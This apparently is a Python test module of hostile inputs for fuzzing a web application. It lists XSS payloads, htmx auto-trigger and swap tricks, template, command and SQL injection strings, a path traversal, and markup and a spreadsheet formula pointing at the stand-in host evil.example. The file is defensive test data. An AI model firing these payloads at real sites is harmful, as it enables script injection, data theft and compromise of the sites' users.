"""Texts a hostile bot sends: markup, scripts, htmx, templates, addresses, odd characters."""

from typing import Final

MARKUP: Final = (
    *("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script\f>alert(1)</script>"),
    *("<script type=module>alert(1)</script>", "<script src=//evil.example/x.js></script>"),
    *("<<script>alert(1)//<</script>", "</title><script>alert(1)</script>"),
    *("</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>"),
    *("</style><script>alert(1)</script>", "</td></tr></table><script>alert(1)</script>"),
    *("</main></body></html><script>alert(1)</script>", "</template><img src=x onerror=alert(1)>"),
    *(
        "<img src=x onerror=alert(1)>",
        "<img src=`x` onerror=alert(1)>",
        '<img/src="x"/onerror=a()>',
    ),
    *('"><svg onload=alert(1)>', "'><script>alert(1)</script>", "<svg/onload=alert(1)>"),
    *("<svg><script>alert&#40;1&#41;</script>", "<svg><animate onbegin=alert(1) dur=1s>"),
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
    *("<iframe src=javascript:alert(1)>", '<iframe srcdoc="<script>alert(1)</script>">'),
    *('<a href="javascript:alert(1)">x</a>', "<a ping=//evil.example href=#>x", "<a id=toasts>"),
    *("<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>"),
    *("<input autofocus onfocus=alert(1)>", "<input type=image src=x onerror=alert(1)>"),
    *("<button formaction=javascript:alert(1)>x", "<button popovertarget=nav>x"),
    *("<form action=//evil.example><input name=x><button>x", "<form id=nav>", "<select><option>x"),
    *("<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>"),
    *("<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>"),
    *("<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>", "<plaintext>"),
    *("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp>", "<dialog open>x"),
    *("<!--<img src='--><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>"),
    *("<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>"),
    *("<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>"),
    *("<frameset onload=alert(1)>", "<img src='//evil.example/x.png'>", "<img name=cookie>"),
    *("<link rel=preload as=script href=//evil.example>", "<custom-x is=x onload=alert(1)>"),
)
HTMX: Final = (
    '<b hx-get="/trap" hx-trigger="load">x</b>',
    '<b data-hx-get="/trap" data-hx-trigger="load">x</b>',
    '<b hx-post="/sample/remove/" hx-trigger="load">x</b>',
    '<div hx-on::load="alert(1)" hx-trigger="load" hx-get="/trap">x</div>',
    '<tr id="fact-1" hx-swap-oob="true"><td>x',
    '<div id="toasts" hx-swap-oob="innerHTML">x</div>',
)
ATTRIBUTES: Final = (
    *('" onmouseover="alert(1)" x="', "' onmouseover='alert(1)'", "` onmouseover=`alert(1)"),
    *('x" autofocus onfocus=alert(1) "', "javascript:alert(1)", "data:text/html,<script>a()"),
)
CODE: Final = (
    *("{{7*7}}", "{% csrf_token %}", "{{ settings.SECRET_KEY }}", "${7*7}", "%s%n%x", "$(id)"),
    *("`id`", "| id", "'; DROP TABLE facts;--", "' OR 1=1 --", "=HYPERLINK('//evil.example')"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;"),
    *("\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)", "../../etc/passwd", "C:\\x"),
    *("null", "undefined", "NaN", "[object Object]", '{"a": 1}', "?x=1#y", "&", "<", ">", '"', "'"),
    *("\\", "/", "&amp;", "//evil.example", "http://[", "#1", "E1", "B1"),
)
CHARACTERS: Final = (
    *(
        "\u202e<script>alert(1)</script>",
        "\u202eevil\u202c",
        "a\u200bb\ufeffc",
        "\u2028x",
        "\u2029x",
    ),
    *("\x1b[31mred", "\x7f\x80\x9f", "\r\nX: y", "\tx", "\ud7ff\ue000\uffff", "ﷺ" * 20),
    *("W" * 110, "长" * 110, "😀" * 50, "👩‍👩‍👧‍👦" * 10, "السلام عليكم", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "-".join("W" * 50)),
)
PAYLOADS: Final = (*MARKUP, *HTMX, *ATTRIBUTES, *CODE, *CHARACTERS)
